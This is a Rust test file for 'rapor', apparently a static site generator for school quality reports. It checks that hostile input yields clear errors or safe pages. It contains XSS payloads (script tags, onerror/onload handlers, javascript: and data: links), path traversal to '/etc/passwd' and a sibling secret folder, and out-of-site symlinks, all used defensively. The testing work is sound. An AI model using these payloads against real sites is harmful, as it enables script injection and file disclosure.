//! Hostile input: files a careless export, a broken spreadsheet or a malicious hand could put in
//! a site folder. Every case runs the real `rapor` binary under a deadline and a memory limit
//! and asserts either a clear message naming file, line or cell and field, or a safe page;
//! never a panic (exit 101), a signal, a hang or unbounded memory.
//!
//! The corpus (one test each, grouped by what it attacks):
//! - bytes: invalid UTF-8 in CSV, markdown and site.toml; NUL bytes in CSV and markdown; a
//!   1 GiB line (sparse file); 10,000 columns; 10,000 cells in one row;
//! - numbers: NaN, inf, 1e309, negative and over-scale scores;
//! - shape: empty and header-only files, duplicate headers, an unclosed quote;
//! - spreadsheets: formulas (values and errors), merged cells, a cell at XFD1048576, a file
//!   that is not a spreadsheet;
//! - frameworks: duplicate codes, a framework that names itself or a folder, infinite scales;
//! - front matter: wrong types, dates that do not exist, unclosed front matter.
//!
//! Injection (`<script>`, `onload=`, `javascript:`) and paths (`../`, absolute, symlinks)
//! have their own sections below.

mod common;

use common::*;
use std::ffi::OsStr;
use std::path::Path;
use std::process::{Command, Output, Stdio};
use std::time::{Duration, Instant};

const SEKOLAH: &str = "content/data/sekolah.csv";
const WILAYAH: &str = "content/data/wilayah.csv";
const NILAI_2020: &str = "content/data/nilai/2020.csv";
const NARASI: &str = "content/wilayah/14.71.md";
const ARTIKEL: &str = "content/kegiatan/pendampingan-pekanbaru-2020.md";

/// Runs `rapor` with a deadline and an address-space limit (KiB); a hang or a crash fails the
/// test with what the program printed.
fn rapor_limited(args: &[&OsStr], memory_kib: u64, deadline: Duration) -> Output {
    let mut command = Command::new("sh");
    command
        .arg("-c")
        .arg(format!("ulimit -v {memory_kib} && exec \"$0\" \"$@\""))
        .arg(env!("CARGO_BIN_EXE_rapor"))
        .args(args)
        .stdout(Stdio::piped())
        .stderr(Stdio::piped());
    let mut child = command.spawn().expect("run rapor");
    let started = Instant::now();
    loop {
        if child.try_wait().unwrap().is_some() {
            break;
        }
        if started.elapsed() > deadline {
            let _ = child.kill();
            let output = child.wait_with_output().unwrap();
            panic!("rapor hung for {deadline:?}\n{}", show(&output));
        }
        std::thread::sleep(Duration::from_millis(10));
    }
    let output = child.wait_with_output().unwrap();
    assert!(
        matches!(output.status.code(), Some(0 | 1)),
        "rapor crashed (101 is a panic, no code a signal)\n{}",
        show(&output)
    );
    output
}

/// `rapor check SITE` within 1.5 GiB and 60 s; returns (exit code, stdout).
fn check_limited(site: &Path) -> (i32, String) {
    let output = rapor_limited(
        &[OsStr::new("check"), site.as_os_str()],
        1536 * 1024,
        Duration::from_secs(60),
    );
    (output.status.code().unwrap_or(-1), stdout(&output))
}

/// `rapor build SITE -o SITE/out` within the same limits.
fn build_limited(site: &Path) -> Output {
    let out = site.join("out");
    rapor_limited(
        &[
            OsStr::new("build"),
            site.as_os_str(),
            OsStr::new("-o"),
            out.as_os_str(),
        ],
        1536 * 1024,
        Duration::from_secs(120),
    )
}

/// The mini fixture with `files` written over it (site-relative path, bytes).
fn site_with(files: &[(&str, &[u8])]) -> tempfile::TempDir {
    let site = site_from_fixture("mini");
    for (rel, bytes) in files {
        let path = site.path().join(rel);
        std::fs::create_dir_all(path.parent().unwrap()).unwrap();
        std::fs::write(path, bytes).unwrap();
    }
    site
}

/// Asserts `rapor check` fails with an error line that starts with `prefix` and contains every
/// piece of `rest`; `rapor build` must fail too, with the same line. Returns the report.
fn refused(site: &Path, prefix: &str, rest: &[&str]) -> String {
    let (code, report) = check_limited(site);
    assert_eq!(code, 1, "check passed:\n{report}");
    let found = report
        .lines()
        .any(|l| l.starts_with(prefix) && rest.iter().all(|r| l.contains(r)));
    assert!(
        found,
        "no line starting with {prefix:?} containing {rest:?}:\n{report}"
    );
    let built = build_limited(site);
    assert_eq!(built.status.code(), Some(1), "{}", show(&built));
    assert!(
        stderr(&built).lines().any(|l| l.starts_with(prefix)),
        "{}",
        show(&built)
    );
    report
}

fn fixture_text(rel: &str) -> String {
    std::fs::read_to_string(fixture_dir("mini").join(rel)).unwrap()
}

// ---------------------------------------------------------------------------------------------
// Bytes

#[test]
fn invalid_utf8_in_csv_is_read_as_windows_1252_with_its_line() {
    let mut bytes = fixture_text(SEKOLAH).into_bytes();
    let at = bytes.windows(5).position(|w| w == b"Dumai").unwrap();
    bytes[at] = 0xFF; // "\xFFumai": not UTF-8
    let site = site_with(&[(SEKOLAH, &bytes)]);
    let (code, report) = check_limited(site.path());
    assert_eq!(code, 0, "{report}");
    assert!(
        report.contains("warning: content/data/sekolah.csv:5: file bukan UTF-8"),
        "{report}"
    );
}

#[test]
fn invalid_utf8_in_markdown_names_file_and_line() {
    let site = site_with(&[(
        NARASI,
        b"+++\njudul = \"Kota\"\n+++\n\nBaris satu.\nBaris \xC3\x28 dua.\n",
    )]);
    refused(
        site.path(),
        "error: content/wilayah/14.71.md:6: file bukan teks UTF-8",
        &[],
    );
}

#[test]
fn invalid_utf8_in_site_toml_names_its_line() {
    let toml = fixture_text("site.toml").replace("Rapor Mutu Mini", "Rapor \u{1}");
    let bytes = toml.replace('\u{1}', "").into_bytes();
    let mut bytes = bytes;
    let at = bytes.windows(6).position(|w| w == b"Rapor ").unwrap() + 6;
    bytes.insert(at, 0xE9);
    let site = site_with(&[("site.toml", &bytes)]);
    let line = 1 + bytes[..at].iter().filter(|&&b| b == b'\n').count();
    refused(
        site.path(),
        &format!("error: site.toml:{line}: file bukan teks UTF-8"),
        &[],
    );
}

#[test]
fn nul_byte_in_csv_names_its_line() {
    let text = fixture_text(WILAYAH).replace("Kota Dumai", "Kota\0Dumai");
    let line = 1 + text[..text.find('\0').unwrap()].matches('\n').count();
    let site = site_with(&[(WILAYAH, text.as_bytes())]);
    refused(
        site.path(),
        &format!("error: content/data/wilayah.csv:{line}: file berisi byte NUL"),
        &[],
    );
}

#[test]
fn nul_byte_in_markdown_names_its_line() {
    let site = site_with(&[(NARASI, b"+++\njudul = \"Kota\"\n+++\nsatu\ndua\0\n")]);
    refused(
        site.path(),
        "error: content/wilayah/14.71.md:5: file berisi byte NUL",
        &[],
    );
}

/// A 1 GiB line (a sparse file: no disk, no time to write) is refused at its line, quickly
/// and within a memory limit smaller than the line.
#[test]
fn one_gigabyte_line_is_refused_quickly_in_bounded_memory() {
    let site = site_from_fixture("mini");
    let path = site.path().join(SEKOLAH);
    let mut text = fixture_text(SEKOLAH);
    let line = 1 + text.matches('\n').count();
    text.push_str("14710009,\"SD ");
    std::fs::write(&path, &text).unwrap();
    let file = std::fs::OpenOptions::new().write(true).open(&path).unwrap();
    file.set_len(1 << 30).unwrap();
    drop(file);
    let started = Instant::now();
    let output = rapor_limited(
        &[OsStr::new("check"), site.path().as_os_str()],
        512 * 1024,
        Duration::from_secs(30),
    );
    let report = stdout(&output);
    assert_eq!(output.status.code(), Some(1), "{}", show(&output));
    // The zeros of a sparse file are NUL bytes; either rule may see the line first, and both
    // must name it.
    let named = report.lines().any(|l| {
        l.starts_with(&format!("error: content/data/sekolah.csv:{line}: "))
            && (l.contains("lebih panjang") || l.contains("NUL"))
    });
    assert!(named, "{report}");
    assert!(
        started.elapsed() < Duration::from_secs(10),
        "took {:?}",
        started.elapsed()
    );
}

/// A long line of ordinary text (not NUL) is refused by the line limit alone.
#[test]
fn over_long_line_of_text_is_refused_by_its_length() {
    let mut text = fixture_text(SEKOLAH);
    let line = 1 + text.matches('\n').count();
    text.push_str("14710009,\"");
    text.push_str(&"SD Negeri ".repeat(220_000));
    text.push_str("\",SD,negeri,14.71,,\n");
    let site = site_with(&[(SEKOLAH, text.as_bytes())]);
    refused(
        site.path(),
        &format!("error: content/data/sekolah.csv:{line}: baris lebih panjang dari 1024 KiB"),
        &[],
    );
}

#[test]
fn ten_thousand_columns_are_one_error_not_ten_thousand() {
    let header: Vec<String> = (0..10_000).map(|i| format!("x{i}")).collect();
    let row: Vec<&str> = (0..10_000).map(|_| "1").collect();
    let text = format!("npsn,{}\n14710001,{}\n", header.join(","), row.join(","));
    let site = site_with(&[(NILAI_2020, text.as_bytes())]);
    let report = refused(
        site.path(),
        "error: content/data/nilai/2020.csv:1: 10001 kolom, lebih dari 1000",
        &[],
    );
    assert!(report.lines().count() < 20, "{report}");
}

#[test]
fn ten_thousand_cells_in_one_row_are_an_error_of_that_row() {
    let mut text = fixture_text(SEKOLAH);
    text.push_str(&format!(
        "14710009,SD,SD,negeri,14.71,,{}\n",
        ",x".repeat(10_000)
    ));
    let line = text.matches('\n').count();
    let site = site_with(&[(SEKOLAH, text.as_bytes())]);
    refused(
        site.path(),
        &format!("error: content/data/sekolah.csv:{line}: baris berisi 10007 kolom"),
        &[],
    );
}

// ---------------------------------------------------------------------------------------------
// Numbers

/// Replaces the first score of the row of `npsn` in nilai/2020.csv with each value, and
/// expects its cell to be named with `message`.
fn bad_score(value: &str, message: &str) {
    let text = fixture_text(NILAI_2020);
    let (line, row) = text
        .lines()
        .enumerate()
        .find(|(_, l)| l.starts_with("14710001,"))
        .unwrap();
    let first = row.split(',').nth(1).unwrap();
    let broken = text.replacen(
        &format!("14710001,{first},"),
        &format!("14710001,{value},"),
        1,
    );
    let site = site_with(&[(NILAI_2020, broken.as_bytes())]);
    refused(
        site.path(),
        &format!(
            "error: content/data/nilai/2020.csv:{}: kolom 1.1: {value:?} {message}",
            line + 1
        ),
        &["isi angka 0–7"],
    );
}

#[test]
fn nan_inf_and_1e309_are_not_numbers() {
    for value in ["NaN", "nan", "inf", "-inf", "Infinity", "1e309", "-1e309"] {
        bad_score(value, "nilai bukan angka");
    }
}

#[test]
fn negative_and_over_scale_scores_are_out_of_scale() {
    for value in ["-0.01", "-7", "7.001", "70", "1e300"] {
        bad_score(value, "nilai di luar skala");
    }
}

// ---------------------------------------------------------------------------------------------
// Shape

#[test]
fn empty_files_name_the_file() {
    for rel in [SEKOLAH, WILAYAH, NILAI_2020] {
        let site = site_with(&[(rel, b"")]);
        refused(
            site.path(),
            &format!("error: {rel}:1: file kosong atau tanpa baris judul kolom"),
            &[],
        );
    }
    let site = site_with(&[("site.toml", b"")]);
    refused(site.path(), "error: site.toml", &["title"]);
}

#[test]
fn header_only_school_table_reports_every_reference() {
    let header = fixture_text(SEKOLAH).lines().next().unwrap().to_string() + "\n";
    let site = site_with(&[(SEKOLAH, header.as_bytes())]);
    refused(
        site.path(),
        "error: content/data/nilai/2020.csv:2: kolom npsn: \"14710001\" NPSN tidak ada di sekolah.csv",
        &[],
    );
}

#[test]
fn header_only_score_table_builds_a_site_without_that_year() {
    let header = fixture_text(NILAI_2020).lines().next().unwrap().to_string() + "\n";
    let site = site_with(&[(NILAI_2020, header.as_bytes())]);
    let (code, report) = check_limited(site.path());
    assert_eq!(code, 0, "{report}");
    assert!(
        report.contains("tidak ada nilai tahun 2020"),
        "missing year not warned:\n{report}"
    );
    let built = build_limited(site.path());
    assert_eq!(built.status.code(), Some(0), "{}", show(&built));
}

#[test]
fn duplicate_headers_name_the_second_column() {
    let text = fixture_text(WILAYAH).replacen("kode,nama,jenis", "kode,nama,Nama", 1);
    let site = site_with(&[(WILAYAH, text.as_bytes())]);
    refused(
        site.path(),
        "error: content/data/wilayah.csv:1: kolom nama: nama kolom ganda",
        &[],
    );
}

#[test]
fn unclosed_quote_swallows_the_rest_but_is_reported() {
    let text = fixture_text(SEKOLAH).replacen("SD Negeri 2", "\"SD Negeri 2", 1);
    let site = site_with(&[(SEKOLAH, text.as_bytes())]);
    let (code, report) = check_limited(site.path());
    assert_eq!(code, 1, "{report}");
    assert!(
        report
            .lines()
            .any(|l| l.starts_with("error: content/data/sekolah.csv:3")),
        "{report}"
    );
}

// ---------------------------------------------------------------------------------------------
// Front matter and dates

fn article_with(front: &str) -> tempfile::TempDir {
    let text = format!("+++\n{front}\n+++\n\nIsi.\n");
    site_with(&[(ARTIKEL, text.as_bytes())])
}

#[test]
fn front_matter_with_wrong_types_names_file_and_line() {
    for (front, line) in [
        ("judul = 5\ntanggal = 2020-10-15", 2),
        ("judul = \"A\"\ntanggal = true", 3),
        (
            "judul = \"A\"\ntanggal = 2020-10-15\nwilayah = \"14.71\"",
            4,
        ),
        ("judul = \"A\"\ntanggal = 2020-10-15\ntag = [1, 2]", 4),
        ("judul = [\"A\"]\ntanggal = 2020-10-15", 2),
    ] {
        let site = article_with(front);
        refused(
            site.path(),
            &format!("error: {ARTIKEL}:{line}: TOML tidak valid"),
            &[],
        );
    }
    let site = site_with(&[(
        "content/halaman/tentang.md",
        b"+++\njudul = \"Tentang\"\nurutan = \"satu\"\n+++\nx\n",
    )]);
    refused(
        site.path(),
        "error: content/halaman/tentang.md:3: TOML tidak valid",
        &[],
    );
}

#[test]
fn dates_that_do_not_exist_are_refused() {
    // As a TOML date, the TOML reader refuses it with its line.
    for date in ["2021-02-29", "2020-04-31", "2020-13-01"] {
        let site = article_with(&format!("judul = \"A\"\ntanggal = {date}"));
        refused(
            site.path(),
            &format!("error: {ARTIKEL}:3: TOML tidak valid"),
            &[],
        );
    }
    // As text, rapor's own check names the field and the value.
    for date in [
        "2021-02-29",
        "2019-02-29",
        "2020-00-10",
        "2020-10-15T99:99:99",
        "15-10-2020",
        "",
    ] {
        let site = article_with(&format!("judul = \"A\"\ntanggal = \"{date}\""));
        refused(
            site.path(),
            &format!("error: {ARTIKEL}:3: kolom tanggal: {date:?} tanggal tidak valid"),
            &[],
        );
    }
    let site = article_with("judul = \"A\"\ntanggal = \"2020-02-29\"");
    assert_eq!(check_limited(site.path()).0, 0, "a leap day exists");
}

#[test]
fn unclosed_front_matter_names_line_1() {
    let site = article_with("judul = \"A\"\ntanggal = 2020-10-15\n++");
    std::fs::write(
        site.path().join(ARTIKEL),
        "+++\njudul = \"A\"\ntanggal = 2020-10-15\n\nIsi tanpa penutup.\n",
    )
    .unwrap();
    refused(
        site.path(),
        &format!("error: {ARTIKEL}:1: front matter tidak ditutup"),
        &[],
    );
}

// ---------------------------------------------------------------------------------------------
// Frameworks

fn with_framework(text: &str) -> tempfile::TempDir {
    let toml = fixture_text("site.toml").replace(
        "framework = \"rapor-mutu\"",
        "framework = \"kerangka.toml\"",
    );
    site_with(&[
        ("site.toml", toml.as_bytes()),
        ("kerangka.toml", text.as_bytes()),
    ])
}

const PRESET: &str = include_str!("../src/framework/presets/rapor-mutu.toml");

#[test]
fn framework_with_duplicate_codes_is_refused() {
    // An indicator with its own standard's code (the nearest thing to a cycle the tree allows)
    // and two indicators with one code.
    for (from, to) in [
        ("code = \"1.1\"", "code = \"1\""),
        ("code = \"2.2\"", "code = \"2.1\""),
    ] {
        assert!(PRESET.contains(from));
        let site = with_framework(&PRESET.replacen(from, to, 1));
        refused(
            site.path(),
            "error: kerangka.toml: ",
            &["kode ganda di framework"],
        );
    }
}

#[test]
fn framework_naming_itself_or_a_folder_is_refused() {
    // site.toml as the framework: a TOML file, but not a framework.
    let toml = fixture_text("site.toml")
        .replace("framework = \"rapor-mutu\"", "framework = \"site.toml\"");
    let site = site_with(&[("site.toml", toml.as_bytes())]);
    refused(site.path(), "error: site.toml", &["TOML tidak valid"]);
    let toml =
        fixture_text("site.toml").replace("framework = \"rapor-mutu\"", "framework = \"content\"");
    let site = site_with(&[("site.toml", toml.as_bytes())]);
    refused(
        site.path(),
        "error: site.toml: kolom framework: \"content\" framework tidak ditemukan",
        &[],
    );
}

#[test]
fn framework_with_infinite_or_nan_scale_is_refused() {
    for (from, to) in [("max = 7.0", "max = inf"), ("min = 0.0", "min = nan")] {
        let site = with_framework(&PRESET.replacen(from, to, 1));
        refused(
            site.path(),
            "error: kerangka.toml: ",
            &["skala tidak valid"],
        );
    }
    let site = with_framework(&PRESET.replacen("max = 2.04", "max = nan", 1));
    refused(site.path(), "error: kerangka.toml: ", &["rentang kategori"]);
}

// ---------------------------------------------------------------------------------------------
// Spreadsheets

/// Writes the fixture's sekolah table as `content/data/sekolah.xlsx` (sheet "Data"), then lets
/// `edit` change the sheet.
fn sekolah_xlsx(edit: impl FnOnce(&mut rust_xlsxwriter::Worksheet)) -> tempfile::TempDir {
    let site = site_from_fixture("mini");
    std::fs::remove_file(site.path().join(SEKOLAH)).unwrap();
    let mut book = rust_xlsxwriter::Workbook::new();
    let sheet = book.add_worksheet();
    sheet.set_name("Data").unwrap();
    for (r, line) in fixture_text(SEKOLAH).lines().enumerate() {
        for (c, cell) in line.split(',').enumerate() {
            sheet.write_string(r as u32, c as u16, cell).unwrap();
        }
    }
    edit(sheet);
    book.save(site.path().join("content/data/sekolah.xlsx"))
        .unwrap();
    site
}

#[test]
fn xlsx_formulas_are_read_as_their_values_and_errors_are_located() {
    // A formula's cached value is what the sheet showed: here a text, a number and an error.
    let site = sekolah_xlsx(|sheet| {
        let name =
            rust_xlsxwriter::Formula::new("=HYPERLINK(\"http://contoh.invalid\",\"SD Tautan\")")
                .set_result("SD Tautan");
        sheet.write_formula(1, 1, name).unwrap();
        let code = rust_xlsxwriter::Formula::new("=1/0").set_result("#DIV/0!");
        sheet.write_formula(2, 4, code).unwrap();
    });
    let report = refused(
        site.path(),
        "error: content/data/sekolah.xlsx: Data!E3: kolom kode_wilayah: ",
        &["bukan kode kab/kota"],
    );
    assert!(
        !report.contains("Data!B2"),
        "formula text refused:\n{report}"
    );
}

#[test]
fn xlsx_merged_cells_leave_empty_cells_that_are_named() {
    let site = sekolah_xlsx(|sheet| {
        // kode_wilayah of rows 2–4 merged, as a clerk would for one region.
        let format = rust_xlsxwriter::Format::new();
        sheet.merge_range(1, 4, 3, 4, "14.71", &format).unwrap();
    });
    refused(
        site.path(),
        "error: content/data/sekolah.xlsx: Data!E3: kolom kode_wilayah: \"\" kode_wilayah bukan kode kab/kota",
        &[],
    );
}

/// One stray cell in the sheet's last row and column: a sheet's bounding box of 17 billion
/// cells must not be allocated.
#[test]
fn xlsx_with_a_cell_at_xfd1048576_is_read_in_bounded_memory() {
    let site = sekolah_xlsx(|sheet| {
        sheet.write_string(1_048_575, 16_383, "x").unwrap();
    });
    refused(
        site.path(),
        "error: content/data/sekolah.xlsx: Data!XFD1048576: ",
        &["di luar"],
    );
    // Far down but inside the table's columns: an ordinary row, read as one.
    let site = sekolah_xlsx(|sheet| {
        sheet.write_string(1_048_575, 0, "14710009").unwrap();
    });
    refused(
        site.path(),
        "error: content/data/sekolah.xlsx: Data!B1048576: kolom nama: \"\" nama sekolah kosong",
        &[],
    );
}

#[test]
fn file_that_is_not_a_spreadsheet_is_named() {
    let site = site_from_fixture("mini");
    std::fs::remove_file(site.path().join(SEKOLAH)).unwrap();
    std::fs::write(
        site.path().join("content/data/sekolah.xlsx"),
        fixture_text(SEKOLAH),
    )
    .unwrap();
    refused(
        site.path(),
        "error: content/data/sekolah.xlsx: spreadsheet tidak dapat dibuka",
        &[],
    );
}

// ---------------------------------------------------------------------------------------------
// Injection: data and content carrying markup, scripts and script URLs are shown as text.

/// Markup an attacker (or a careless paste) puts in a name: a script, an attribute break-out
/// with an event handler, a closing `</script>` for data that lands inside a script.
const HOSTILE: &str =
    "<script>alert(1)</script>\"><svg onload=alert(2)>'</script><img src=x onerror=alert(3)>";

/// What must never appear in a page: a tag that runs or embeds something (other than the
/// theme's own scripts), an event-handler attribute, or a link or image whose URL can run a
/// script, carry a document or load from elsewhere. Escaped text has no `<`, so every tag
/// found here is real markup.
fn assert_page_is_safe(rel: &str, html: &str) {
    let tags =
        regex::Regex::new(r#"<([a-zA-Z][a-zA-Z0-9:-]*)((?:[^>"']|"[^"]*"|'[^']*')*)>"#).unwrap();
    let attributes = regex::Regex::new(
        r#"([a-zA-Z_:][-a-zA-Z0-9_:.]*)(?:\s*=\s*(?:"([^"]*)"|'([^']*)'|([^\s"'>]+)))?"#,
    )
    .unwrap();
    let theme_script =
        regex::Regex::new(r#"^<script src="(\.\./)*assets/[a-z0-9/_.-]+"( defer)?>$"#).unwrap();
    for tag in tags.captures_iter(html) {
        let whole = &tag[0];
        let name = tag[1].to_ascii_lowercase();
        match name.as_str() {
            // The 404 page's own inline script finds the site root (no data in it).
            "script" if rel.ends_with("404.html") && whole == "<script>" => {}
            // The theme's own scripts: files by relative path, or inline code of a template
            // (no attributes), which no data reaches.
            "script" if whole == "<script>" => {
                let body = &html[tag.get(0).unwrap().end()..];
                let body = &body[..body.find("</script>").unwrap_or(body.len())];
                assert!(!body.contains("alert("), "{rel}: data in a script: {body}");
            }
            "script" => assert!(theme_script.is_match(whole), "{rel}: {whole}"),
            "iframe" | "object" | "embed" | "frame" | "base" | "meta" if name != "meta" => {
                panic!("{rel}: {whole}")
            }
            "meta" => assert!(!whole.contains("refresh"), "{rel}: {whole}"),
            _ => {}
        }
        for attribute in attributes.captures_iter(&tag[2]) {
            let key = attribute[1].to_ascii_lowercase();
            let value = attribute
                .get(2)
                .or(attribute.get(3))
                .or(attribute.get(4))
                .map_or("", |m| m.as_str())
                .trim()
                .to_ascii_lowercase();
            assert!(!key.starts_with("on"), "{rel}: event handler in {whole}");
            if matches!(
                key.as_str(),
                "href" | "src" | "xlink:href" | "action" | "formaction"
            ) {
                for bad in ["javascript:", "vbscript:", "data:", "&#"] {
                    assert!(!value.contains(bad), "{rel}: {key} in {whole}");
                }
                if key != "href" {
                    assert!(
                        !value.starts_with("http") && !value.starts_with("//"),
                        "{rel}: remote {key} in {whole}"
                    );
                }
            }
        }
    }
}

/// Replaces the second field (a name) of the CSV row starting with `key,`.
fn rename_row(csv: &str, key: &str, name: &str) -> String {
    csv.lines()
        .map(|line| match line.strip_prefix(&format!("{key},")) {
            Some(rest) => {
                let after = rest.split_once(',').map(|(_, a)| a).unwrap_or("");
                format!("{key},\"{}\",{after}", name.replace('"', "\"\""))
            }
            None => line.to_string(),
        })
        .collect::<Vec<_>>()
        .join("\n")
        + "\n"
}

const NARRATIVE: &str = "+++
judul = \"Catatan <script>alert(4)</script>\"
+++

Teks <script>alert(5)</script> dan <div onmouseover=\"alert(6)\">blok</div>.

<iframe src=\"https://contoh.invalid\"></iframe>

[satu](javascript:alert(7)) [dua](JaVaScRiPt:alert(8)) [tiga](jav&#x61;script:alert(9))
[empat](vbscript:msgbox) [lima](data:text/html;base64,PHNjcmlwdD4=) [enam][ref]
<javascript:alert(10)> [tujuh](\u{1}javascript:alert(11)) [delapan](../../sekolah/14710001.html)

![gambar](javascript:alert(12)) ![jauh](https://contoh.invalid/x.png) ![data](data:image/png;base64,AAAA)

[ref]: javascript:alert(13)
";

const ARTICLE: &str = "+++
judul = \"Kegiatan <script>alert(14)</script>\"
tanggal = 2020-10-15
wilayah = [\"14.71\"]
sekolah = [\"14710001\"]
tag = [\"<b onmouseover=alert(15)>tag</b>\"]
tempat = \"\\\"><svg onload=alert(16)>\"
ringkasan = \"</script><script>alert(17)</script>\"
[[tabel]]
berkas = \"tabel.csv\"
judul = \"Tabel <img src=x onerror=alert(18)>\"
jumlah_kolom = \"Jumlah\"
+++

Isi <object data=x></object>.
";

const ARTICLE_TABLE: &str = "wilayah,peserta
\"=HYPERLINK(\"\"https://contoh.invalid\"\",\"\"klik\"\")\",3
\"<script>alert(19)</script>\",4
";

#[test]
fn hostile_names_narratives_and_front_matter_are_shown_as_text() {
    let sekolah = rename_row(&fixture_text(SEKOLAH), "14710001", HOSTILE);
    let wilayah = rename_row(
        &rename_row(&fixture_text(WILAYAH), "14.71", HOSTILE),
        "14",
        &format!("Riau {HOSTILE}"),
    );
    let site = site_with(&[
        (SEKOLAH, sekolah.as_bytes()),
        (WILAYAH, wilayah.as_bytes()),
        (NARASI, NARRATIVE.as_bytes()),
        ("content/sekolah/14710001.md", NARRATIVE.as_bytes()),
        (ARTIKEL, ARTICLE.as_bytes()),
        ("content/kegiatan/tabel.csv", ARTICLE_TABLE.as_bytes()),
        (
            "content/halaman/tentang.md",
            "+++\njudul = \"Tentang <script>alert(20)</script>\"\n+++\n<script>alert(21)</script>\n"
                .as_bytes(),
        ),
    ]);
    let built = build_limited(site.path());
    assert_eq!(built.status.code(), Some(0), "{}", show(&built));
    let out = site.path().join("out");
    let mut pages = 0;
    for (rel, bytes) in snapshot(&out) {
        if rel.ends_with(".html") || rel.ends_with(".svg") {
            assert_page_is_safe(&rel, &String::from_utf8_lossy(&bytes));
            pages += 1;
        }
    }
    assert!(pages > 10, "{pages} pages");
    // The hostile text did reach the pages, as text.
    let escaped = "&lt;script&gt;alert(1)&lt;";
    let shown = |rel: &str, needle: &str| {
        let html = std::fs::read_to_string(out.join(rel)).unwrap();
        assert!(html.contains(needle), "{rel} lacks {needle:?}");
        html
    };
    let school = shown("sekolah/14710001.html", escaped);
    assert!(
        school.contains("&lt;script&gt;alert(5)"),
        "narrative not shown"
    );
    shown("wilayah/14.71/index.html", escaped);
    shown("wilayah/14/index.html", escaped);
    shown("index.html", escaped);
    let region = shown("wilayah/14.71/index.html", "&lt;iframe");
    // Script-capable links lead nowhere; the site's own relative link stays.
    assert!(
        region.contains("href=\"#\""),
        "script links not neutralised"
    );
    assert!(region.contains("href=\"../../sekolah/14710001.html\""));
    let article = shown(
        "kegiatan/pendampingan-pekanbaru-2020/index.html",
        "Kegiatan &lt;script&gt;alert(14)",
    );
    for text in [
        "&lt;b onmouseover=alert(15)&gt;",
        "&quot;&gt;&lt;svg onload=alert(16)&gt;",
        "&lt;script&gt;alert(17)",
        "Tabel &lt;img src=x onerror=alert(18)&gt;",
        "&lt;script&gt;alert(19)",
        "&lt;object data=x&gt;",
    ] {
        assert!(article.contains(text), "article lacks {text:?}");
    }
    shown("halaman/tentang/index.html", "&lt;script&gt;alert(21)");
}

// ---------------------------------------------------------------------------------------------
// Paths: nothing outside the site folder is read, nothing outside the output folder written.

/// A folder beside the site with a secret a build must never publish.
fn secret_beside(site: &Path) -> std::path::PathBuf {
    let secret = site.join("../rahasia");
    std::fs::create_dir_all(&secret).unwrap();
    std::fs::write(secret.join("kunci.txt"), "RAHASIA-KUNCI").unwrap();
    std::fs::write(secret.join("tabel.csv"), "a,b\nRAHASIA-KUNCI,1\n").unwrap();
    std::fs::write(secret.join("sekolah.csv"), fixture_text(SEKOLAH)).unwrap();
    secret.canonicalize().unwrap()
}

/// Asserts the site is refused with an error naming `file`, and no output has the secret.
fn refused_without_leak(site: &Path, file: &str, message: &str) {
    refused(site, &format!("error: {file}: "), &[message]);
    let out = site.join("out");
    if out.exists() {
        for (rel, bytes) in snapshot(&out) {
            assert!(
                !String::from_utf8_lossy(&bytes).contains("RAHASIA-KUNCI"),
                "{rel} leaks the secret"
            );
        }
    }
}

#[cfg(unix)]
#[test]
fn symlinks_out_of_the_site_are_refused() {
    use std::os::unix::fs::symlink;
    let link_message = "tautan simbolik ke luar folder situs ditolak";
    // static/ (copied as is into the output) pointing at a folder outside.
    let site = site_from_fixture("mini");
    let secret = secret_beside(site.path());
    symlink(&secret, site.path().join("static")).unwrap();
    refused_without_leak(site.path(), "static", link_message);
    // One static file.
    let site = site_from_fixture("mini");
    let secret = secret_beside(site.path());
    std::fs::create_dir_all(site.path().join("static")).unwrap();
    symlink(
        secret.join("kunci.txt"),
        site.path().join("static/kunci.txt"),
    )
    .unwrap();
    refused_without_leak(site.path(), "static/kunci.txt", link_message);
    // A data table.
    let site = site_from_fixture("mini");
    let secret = secret_beside(site.path());
    std::fs::remove_file(site.path().join(SEKOLAH)).unwrap();
    symlink(secret.join("sekolah.csv"), site.path().join(SEKOLAH)).unwrap();
    refused_without_leak(site.path(), SEKOLAH, link_message);
    // An article's table, shown on its page.
    let site = site_from_fixture("mini");
    let secret = secret_beside(site.path());
    let article = fixture_text(ARTIKEL).replacen(
        "+++\n\n",
        "[[tabel]]\nberkas = \"tabel.csv\"\njudul = \"T\"\n+++\n\n",
        1,
    );
    std::fs::write(site.path().join(ARTIKEL), article).unwrap();
    symlink(
        secret.join("tabel.csv"),
        site.path().join("content/kegiatan/tabel.csv"),
    )
    .unwrap();
    refused_without_leak(site.path(), "content/kegiatan/tabel.csv", link_message);
    // A theme folder, and a symlink that leads nowhere.
    let site = site_from_fixture("mini");
    let secret = secret_beside(site.path());
    symlink(&secret, site.path().join("themes/luar")).unwrap();
    refused_without_leak(site.path(), "themes/luar", link_message);
    let site = site_from_fixture("mini");
    symlink("/tidak/ada", site.path().join("content/wilayah/14.72.md")).unwrap();
    refused(
        site.path(),
        "error: content/wilayah/14.72.md: ",
        &[link_message],
    );
}

#[cfg(unix)]
#[test]
fn symlinks_inside_the_site_are_fine() {
    let site = site_from_fixture("mini");
    std::fs::rename(
        site.path().join(SEKOLAH),
        site.path().join("content/data/sekolah-asli.csv"),
    )
    .unwrap();
    std::os::unix::fs::symlink("sekolah-asli.csv", site.path().join(SEKOLAH)).unwrap();
    let (code, report) = check_limited(site.path());
    assert_eq!(code, 0, "{report}");
}

#[test]
fn article_table_paths_cannot_leave_the_article_folder() {
    for berkas in [
        "../../../rahasia/tabel.csv",
        "/etc/passwd",
        "..\\x.csv",
        ".tersembunyi.csv",
    ] {
        let site = site_from_fixture("mini");
        secret_beside(site.path());
        let article = fixture_text(ARTIKEL).replacen(
            "+++\n\n",
            &format!("[[tabel]]\nberkas = {berkas:?}\njudul = \"T\"\n+++\n\n"),
            1,
        );
        std::fs::write(site.path().join(ARTIKEL), article).unwrap();
        refused_without_leak(
            site.path(),
            ARTIKEL,
            "berkas tabel harus nama file di folder yang sama",
        );
    }
}

#[test]
fn framework_and_theme_paths_cannot_leave_the_site() {
    for framework in [
        "../rahasia/kerangka.toml",
        "/etc/passwd",
        "/dev/zero",
        "/dev/stdin",
    ] {
        let site = site_from_fixture("mini");
        let secret = secret_beside(site.path());
        std::fs::write(secret.join("kerangka.toml"), PRESET).unwrap();
        let toml = fixture_text("site.toml").replace(
            "framework = \"rapor-mutu\"",
            &format!("framework = {framework:?}"),
        );
        std::fs::write(site.path().join("site.toml"), toml).unwrap();
        refused(
            site.path(),
